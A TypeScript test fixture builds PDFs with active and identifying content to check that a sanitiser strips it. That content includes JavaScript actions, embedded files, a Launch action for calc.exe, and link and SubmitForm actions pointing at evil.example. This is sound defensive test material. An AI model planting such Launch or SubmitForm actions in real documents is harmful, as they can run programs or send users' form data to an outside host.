import { PDFDocument, PDFName, PDFString, type PDFPage } from '@cantoo/pdf-lib';
import { handWrittenPdf, pdfSafe } from '../../scripts/lib/hand-written-pdf.js';

/**
 * A small valid PDF, one page whose uncompressed content stream shows `text`, written by hand so
 * tests can build it synchronously and find the text in the bytes after it has been rewritten.
 */
export function pdfBytes(text = 'RBT certificate'): Buffer {
  return handWrittenPdf(`BT /F1 18 Tf 40 100 Td (${pdfSafe(text)}) Tj ET`, 300, 200);
}

/** Whether the bytes carry `text`, written plainly or as pdf-lib writes text strings (UTF-16BE hex). */
export function pdfCarries(bytes: Buffer, text: string): boolean {
  const hex = Buffer.from(text, 'utf16le').swap16().toString('hex').toUpperCase();
  const raw = bytes.toString('latin1');
  return raw.includes(text) || raw.includes(hex);
}

/** Strings planted in `activePdf`: none may survive the sanitiser. */
export const ACTIVE_MARKERS = {
  info: ['Secret Title', 'Nora Secret-Author', 'Secret Producer', 'secret keywords'],
  xmp: ['secret-xmp-creator', 'x:xmpmeta'],
  openAction: ['OPEN_ACTION_SCRIPT', '/OpenAction'],
  documentActions: ['WILL_CLOSE_SCRIPT', 'PAGE_OPEN_SCRIPT', 'NOTE_SCRIPT', '/AA'],
  namedScripts: ['NAMED_SCRIPT', '/JavaScript'],
  embeddedFiles: ['payload.txt', 'annot-payload.txt', '/EmbeddedFile', '/FileAttachment'],
  linkActions: ['LINK_SCRIPT', 'calc.exe', 'evil.example', '/Launch', '/URI', '/SubmitForm'],
  form: ['FIELD_SCRIPT', '/AcroForm', '/Widget'],
  outline: ['OUTLINE_SCRIPT', '/Outlines'],
};

const js = (code: string) => ({ S: 'JavaScript', JS: PDFString.of(`app.alert('${code}')`) });

/**
 * A two-page PDF carrying everything active or identifying the sanitiser must remove: an Info
 * dictionary, XMP, an /OpenAction script, document and page /AA actions, a named script, embedded
 * files (attachment and annotation), links with JavaScript, Launch, URI and SubmitForm actions, a
 * filled form field with a script, and an outline with a script. It also carries what must stay:
 * each page's text and a plain sticky note.
 */
export async function activePdf(): Promise<Buffer> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  doc.setTitle('Secret Title');
  doc.setAuthor('Nora Secret-Author');
  doc.setProducer('Secret Producer');
  doc.setKeywords(['secret keywords']);
  const ctx = doc.context;
  const pages = ['page one marker', 'page two marker'].map((text) => textPage(doc, text));
  const [first, second] = pages as [PDFPage, PDFPage];
  const catalog = doc.catalog;
  const xmp =
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>secret-xmp-creator</dc:creator></x:xmpmeta>';
  catalog.set(
    PDFName.of('Metadata'),
    ctx.register(ctx.stream(xmp, { Type: 'Metadata', Subtype: 'XML' })),
  );
  catalog.set(PDFName.of('OpenAction'), ctx.obj(js('OPEN_ACTION_SCRIPT')));
  catalog.set(PDFName.of('AA'), ctx.obj({ WC: js('WILL_CLOSE_SCRIPT') }));
  first.node.set(PDFName.of('AA'), ctx.obj({ O: js('PAGE_OPEN_SCRIPT') }));
  doc.addJavaScript('init', "app.alert('NAMED_SCRIPT')");
  await doc.attach(Buffer.from('attached-secret'), 'payload.txt', { mimeType: 'text/plain' });
  addAnnotations(doc, first);
  const field = doc.getForm().createTextField('full.name');
  field.setText('FORM_VALUE');
  field.addToPage(second, { x: 20, y: 20, width: 200, height: 24 });
  field.acroField.dict.set(PDFName.of('AA'), ctx.obj({ K: js('FIELD_SCRIPT') }));
  const outline = ctx.obj({ Type: 'Outlines', Count: 1 });
  const outlineRef = ctx.register(outline);
  const item = ctx.register(
    ctx.obj({ Title: PDFString.of('Go'), Parent: outlineRef, A: js('OUTLINE_SCRIPT') }),
  );
  outline.set(PDFName.of('First'), item);
  outline.set(PDFName.of('Last'), item);
  catalog.set(PDFName.of('Outlines'), outlineRef);
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

function textPage(doc: PDFDocument, text: string): PDFPage {
  const ctx = doc.context;
  const page = doc.addPage([300, 200]);
  const font = ctx.obj({ Type: 'Font', Subtype: 'Type1', BaseFont: 'Helvetica' });
  page.node.set(PDFName.of('Resources'), ctx.obj({ Font: { F1: font } }));
  const content = ctx.stream(`BT /F1 18 Tf 40 100 Td (${text}) Tj ET`);
  page.node.set(PDFName.of('Contents'), ctx.register(content));
  return page;
}

function addAnnotations(doc: PDFDocument, page: PDFPage) {
  const ctx = doc.context;
  const rect = [0, 0, 100, 20];
  const annotations = [
    { Subtype: 'Link', A: js('LINK_SCRIPT') },
    { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('calc.exe') } },
    { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('https://evil.example/') } },
    { Subtype: 'Link', A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/post') } },
    {
      Subtype: 'FileAttachment',
      FS: { Type: 'Filespec', F: PDFString.of('annot-payload.txt') },
    },
    { Subtype: 'Text', Contents: PDFString.of('Reviewed note'), AA: { E: js('NOTE_SCRIPT') } },
  ];
  for (const annotation of annotations) {
    page.node.addAnnot(ctx.register(ctx.obj({ Type: 'Annot', Rect: rect, ...annotation })));
  }
}
